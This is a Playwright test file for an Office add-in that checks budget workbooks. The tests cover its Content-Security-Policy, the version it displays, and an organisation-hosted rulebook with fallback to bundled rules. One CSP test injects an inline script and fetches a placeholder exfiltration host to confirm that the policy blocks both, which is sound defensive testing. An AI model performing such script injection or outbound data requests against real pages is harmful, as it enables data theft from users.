/**
 * What an IT department deploys: the built page's Content-Security-Policy (and that it is in
 * force), the version shown in the pane, and the organisation rulebook hosted beside the add-in —
 * used when valid, explained and replaced by the bundled rules when broken or missing.
 */
import { readFile, unlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { checkWorkbook } from '../../src/core/check-workbook';
import { DEFAULT_RULEBOOK } from '../../src/core/rulebook/bundled-rulebook';
import type { Rulebook } from '../../src/core/rulebook/rulebook-types';
import { seedWorkbook } from '../core/report/seed-workbook';
import { eventually } from './support/eventually';
import { check, storedSettings, unexpectedCspViolations } from './support/pane-actions';
import { paneSuite } from './support/pane-suite';

const suite = paneSuite();
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { version } = require('../../package.json') as { version: string };

/** The policy's directives, by name, from the built taskpane.html. */
function directives(html: string): Map<string, string[]> {
  const meta = /<meta http-equiv="?Content-Security-Policy"? content="([^"]+)"/i.exec(html);
  if (!meta) throw new Error('taskpane.html has no Content-Security-Policy meta');
  return new Map(
    meta[1]
      .split(';')
      .map((directive) => directive.trim().split(/\s+/))
      .filter((words) => words[0])
      .map(([name, ...sources]) => [name, sources]),
  );
}

const shownMessages = async (page: Page) => (await page.getByTestId('finding-message').allInnerTexts()).sort();
const messagesOf = (rulebook?: Rulebook) =>
  checkWorkbook(seedWorkbook(), { rulebook })
    .findings.map((finding) => finding.message.zh)
    .sort();

describe('the Content-Security-Policy', () => {
  it('is in the built taskpane.html, before any script, allowing scripts only from the add-in and Office.js', async () => {
    const html = await readFile(join(suite.build.folder, 'taskpane.html'), 'utf8');
    expect(html.search(/Content-Security-Policy/)).toBeLessThan(html.search(/<script/));
    const policy = directives(html);
    expect(policy.get('default-src')).toEqual(["'self'"]);
    expect(policy.get('script-src')).toEqual(["'self'", 'https://appsforoffice.microsoft.com']);
    expect(policy.get('connect-src')).toEqual(["'self'"]);
    expect(policy.get('frame-src')).toEqual(["'none'"]);
    expect(policy.get('object-src')).toEqual(["'none'"]);
    // Inline code is never allowed; inline styles are (Fluent UI's Griffel writes its CSS at run time).
    expect(policy.get('style-src')).toEqual(["'self'", "'unsafe-inline'"]);
    expect([...policy.values()].flat()).not.toContain("'unsafe-eval'");
  }, 60_000);

  it('is in force: an injected inline script and a request to another host are refused by the page itself', async () => {
    const { page, blocked, cspViolations } = await suite.pane();
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = 1';
      document.body.appendChild(script);
    });
    const fetched = await page.evaluate(() =>
      fetch('https://exfiltrate.example.com/x').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(fetched).toBe('refused');
    await expect(page.evaluate('window.__injected')).resolves.toBeUndefined();
    const refused = (await cspViolations()).map((violation) => violation.directive);
    expect(refused).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
    // Refused before the network: the test's own block never saw the request.
    expect(blocked).toEqual([]);
  }, 60_000);
});

it('shows the version from package.json in the settings', async () => {
  const session = await suite.pane();
  const { page } = session;
  await page.getByTestId('settings-toggle').click();
  await expect(page.getByTestId('version').innerText()).resolves.toBe(`预算绩效核对 ${version}`);
  await expect(unexpectedCspViolations(session)).resolves.toEqual([]);
}, 60_000);

describe('the organisation rulebook beside the add-in', () => {
  const file = () => join(suite.build.folder, 'rulebook.json');
  const url = () => `${suite.server.origin}/rulebook.json`;
  afterEach(() => unlink(file()).catch(() => undefined));

  /** Settings → Rulebook → hosted by your organisation → Save. */
  async function chooseOrganisation(page: Page): Promise<void> {
    await page.getByTestId('settings-toggle').click();
    await page.getByTestId('rulebook-organisation').check();
    await eventually(async () => expect(await page.getByTestId('rulebook-organisation-status').innerText()).not.toContain('正在读取'));
  }

  it('is used when chosen: the findings change, and the pane says which rulebook is in force', async () => {
    const city: Rulebook = {
      ...DEFAULT_RULEBOOK,
      id: 'zhuzhou-finance',
      version: '2024.3',
      name: { zh: '株洲市财政局规则', en: 'Zhuzhou finance bureau rules' },
      rules: { ...DEFAULT_RULEBOOK.rules, 'sub-items': { enabled: false } },
    };
    await writeFile(file(), JSON.stringify(city));
    const session = await suite.pane();
    const { page } = session;
    await check(page);
    await expect(page.getByTestId('rulebook-in-force').innerText()).resolves.toBe(
      `按“${DEFAULT_RULEBOOK.name.zh}”核对（${DEFAULT_RULEBOOK.id} ${DEFAULT_RULEBOOK.version}，内置）`,
    );

    await chooseOrganisation(page);
    await expect(page.getByTestId('rulebook-organisation-status').innerText()).resolves.toBe(`株洲市财政局规则 2024.3 · ${url()}`);
    await page.getByTestId('settings-save').click();
    await eventually(async () => expect(await shownMessages(page)).toEqual(messagesOf(city)));
    expect(messagesOf(city).length).toBeLessThan(messagesOf().length);
    await expect(page.getByTestId('rulebook-in-force').innerText()).resolves.toBe('按“株洲市财政局规则”核对（zhuzhou-finance 2024.3，单位托管）');
    expect((await storedSettings(session)).rulebookSource).toBe('organisation');
  }, 120_000);

  it('when broken, says what is wrong and checks with the bundled rules — and says so when it is missing', async () => {
    await writeFile(file(), JSON.stringify({ ...DEFAULT_RULEBOOK, id: 'broken', rules: { 'no-such-rule': {} }, tolerance: 'small' }));
    const { page } = await suite.pane();
    await check(page);
    await chooseOrganisation(page);
    await expect(page.getByTestId('rulebook-organisation-status').innerText()).resolves.toContain('no-such-rule');
    await page.getByTestId('settings-save').click();

    const problem = page.getByTestId('rulebook-problem');
    await eventually(async () => expect(await problem.innerText()).toContain(`单位托管的规则库 ${url()} 无法使用`));
    await expect(problem.innerText()).resolves.toContain('no-such-rule');
    await expect(problem.innerText()).resolves.toContain('tolerance');
    await expect(problem.innerText()).resolves.toContain('本次使用内置规则核对');
    expect(await shownMessages(page)).toEqual(messagesOf());
    await expect(page.getByTestId('rulebook-in-force').innerText()).resolves.toContain(`（${DEFAULT_RULEBOOK.id} ${DEFAULT_RULEBOOK.version}，内置）`);

    await unlink(file());
    await page.getByTestId('check').click();
    await eventually(async () => expect(await problem.innerText()).toContain('服务器返回 HTTP 404（没有这个文件）'));
    expect(await shownMessages(page)).toEqual(messagesOf());
  }, 120_000);
});
